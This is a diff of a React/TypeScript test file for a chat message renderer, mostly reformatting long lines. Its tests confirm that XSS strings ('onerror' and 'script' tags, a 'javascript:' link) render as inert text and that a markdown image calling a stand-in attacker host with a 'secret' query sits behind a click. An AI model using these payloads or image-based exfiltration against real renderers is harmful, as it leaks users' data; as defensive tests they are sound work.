@@ -10,7 +10,11 @@ import { opencodeSession } from '../fixtures/opencode'
 import { fakeHighlighter, framesOnRequest, loadedHighlighter, withConfig } from './helpers'
 
 const userText = opencodeSession.messages[0]?.parts[0] as TextPartData
-const text = (value: string, extra: Partial<TextPartData> = {}): TextPartData => ({ ...userText, text: value, ...extra })
+const text = (value: string, extra: Partial<TextPartData> = {}): TextPartData => ({
+  ...userText,
+  text: value,
+  ...extra,
+})
 
 describe('TextPart', () => {
   it('renders the real user message as markdown, inline code included', () => {
@@ -32,21 +36,27 @@ describe('TextPart', () => {
   })
 
   it('shows raw HTML as text, never as elements', () => {
-    render(<TextPart part={text('Hi <img src=x onerror="alert(1)"> <b>bold</b>\n\n<script>alert(1)</script>')} />, { wrapper: withConfig() })
+    render(<TextPart part={text('Hi <img src=x onerror="alert(1)"> <b>bold</b>\n\n<script>alert(1)</script>')} />, {
+      wrapper: withConfig(),
+    })
     expect(document.querySelector('img, script, b')).toBeNull()
     expect(screen.getByText(/<script>alert\(1\)<\/script>/)).toBeTruthy()
     expect(screen.getByText(/onerror/)).toBeTruthy()
   })
 
   it('does not link script URLs, and keeps remote images behind a click', () => {
-    render(<TextPart part={text('[click](javascript:alert(1)) ![chart](https://attacker.example/p.png?d=secret)')} />, { wrapper: withConfig() })
+    render(<TextPart part={text('[click](javascript:alert(1)) ![chart](https://attacker.example/p.png?d=secret)')} />, {
+      wrapper: withConfig(),
+    })
     expect(screen.queryByRole('link')).toBeNull()
     expect(screen.getByText('click').className).toBe('cp-link-blocked')
     expect(document.querySelector('img')).toBeNull()
     const gate = screen.getByRole('button', { name: /Load image from attacker\.example/ })
     gate.focus()
     act(() => gate.click())
-    expect(screen.getByRole('img', { name: 'chart' }).getAttribute('src')).toBe('https://attacker.example/p.png?d=secret')
+    expect(screen.getByRole('img', { name: 'chart' }).getAttribute('src')).toBe(
+      'https://attacker.example/p.png?d=secret',
+    )
     // The focus moves to the image that replaced the button.
     expect(document.activeElement).toBe(screen.getByRole('img', { name: 'chart' }))
   })
@@ -59,7 +69,9 @@ describe('TextPart', () => {
   })
 
   it('marks synthetic and ignored text instead of hiding it', () => {
-    const { rerender } = render(<TextPart part={text('Summary of earlier work', { synthetic: true })} />, { wrapper: withConfig() })
+    const { rerender } = render(<TextPart part={text('Summary of earlier work', { synthetic: true })} />, {
+      wrapper: withConfig(),
+    })
     expect(screen.getByText('Added by the agent')).toBeTruthy()
     expect(screen.getByText('Summary of earlier work')).toBeTruthy()
     rerender(<TextPart part={text('Skipped', { ignored: true })} />)
@@ -76,7 +88,9 @@ describe('TextPart', () => {
     render(<TextPart part={text(file, { synthetic: true })} />, { wrapper: withConfig() })
     const toggle = screen.getByRole('button', { name: /Added by the agent · 121 lines/ })
     expect(toggle.getAttribute('aria-expanded')).toBe('false')
-    expect(document.querySelector('.cp-text__preview')?.textContent).toBe('Called the Read tool with the following input: {"filePath":"src/app.ts"} …')
+    expect(document.querySelector('.cp-text__preview')?.textContent).toBe(
+      'Called the Read tool with the following input: {"filePath":"src/app.ts"} …',
+    )
     act(() => toggle.click())
     // Shown as it is: one line per line, no markdown paragraph swallowing the breaks.
     const shown = document.querySelector('.cp-longtext__pre') as HTMLElement
@@ -86,7 +100,8 @@ describe('TextPart', () => {
 })
 
 describe('TextPart while streaming', () => {
-  const renderStreaming = (value: string) => render(<TextPart part={text(value)} streaming />, { wrapper: withConfig() })
+  const renderStreaming = (value: string) =>
+    render(<TextPart part={text(value)} streaming />, { wrapper: withConfig() })
 
   it('renders an unclosed code fence as a code block, not as text', () => {
     renderStreaming('Here:\n\n```ts\nconst a = 1\nconst b')
@@ -122,7 +137,9 @@ describe('TextPart while streaming', () => {
       },
     }
     let tail = 'Second'
-    const { rerender } = render(<Markdown text={`First paragraph.\n\n${tail}`} streaming components={components} />, { wrapper: withConfig() })
+    const { rerender } = render(<Markdown text={`First paragraph.\n\n${tail}`} streaming components={components} />, {
+      wrapper: withConfig(),
+    })
     for (const word of [' grows', ' word', ' by', ' word.']) {
       tail += word
       rerender(<Markdown text={`First paragraph.\n\n${tail}`} streaming components={components} />)
@@ -184,7 +201,17 @@ describe('code blocks', () => {
     expect(screen.getByText('const answer = 42')).toBeTruthy()
     expect(document.querySelector('.cp-code__token')).toBeNull()
     await act(async () => fake.release())
-    await waitFor(() => expect([...document.querySelectorAll('.cp-code__token')].map((token) => token.textContent)).toEqual(['const', ' ', 'answer', ' ', '=', ' ', '42\n']))
+    await waitFor(() =>
+      expect([...document.querySelectorAll('.cp-code__token')].map((token) => token.textContent)).toEqual([
+        'const',
+        ' ',
+        'answer',
+        ' ',
+        '=',
+        ' ',
+        '42\n',
+      ]),
+    )
     // The language label is the language's name, not the fence's abbreviation.
     expect(screen.getByText('TypeScript')).toBeTruthy()
   })
@@ -210,7 +237,15 @@ describe('code blocks', () => {
         <TextPart part={text(source)} />
       </ChatpartsProvider>,
     )
-    expect([...document.querySelectorAll('.cp-code__token')].map((token) => token.textContent)).toEqual(['let', ' ', 'kept', ' ', '=', ' ', '1\n'])
+    expect([...document.querySelectorAll('.cp-code__token')].map((token) => token.textContent)).toEqual([
+      'let',
+      ' ',
+      'kept',
+      ' ',
+      '=',
+      ' ',
+      '1\n',
+    ])
     expect(fake.calls).toEqual(['let kept = 1'])
   })
 
@@ -289,7 +324,9 @@ describe('code blocks', () => {
             <TextPart part={text(source)} streaming />
           </ChatpartsProvider>,
         )
-        const highlighted = [...document.querySelectorAll('.cp-code__line')].filter((element) => element.querySelector('.cp-code__token')).length
+        const highlighted = [...document.querySelectorAll('.cp-code__line')].filter((element) =>
+          element.querySelector('.cp-code__token'),
+        ).length
         expect(highlighted).toBeGreaterThanOrEqual(highlightedBefore.at(-1) ?? 0)
         highlightedBefore.push(highlighted)
       }
@@ -301,7 +338,9 @@ describe('code blocks', () => {
       </ChatpartsProvider>,
     )
     expect(document.querySelectorAll('.cp-code__line .cp-code__token').length).toBeGreaterThan(0)
-    expect([...document.querySelectorAll('.cp-code__line')].every((line) => line.querySelector('.cp-code__token'))).toBe(true)
+    expect(
+      [...document.querySelectorAll('.cp-code__line')].every((line) => line.querySelector('.cp-code__token')),
+    ).toBe(true)
     // Complete lines are tokenized once each; the rest of the calls are the live last line. All of
     // it came within one frame (none came), so after the first line's first letters
     // everything waited for the frame, and the finished block tokenized the lines in one call (see
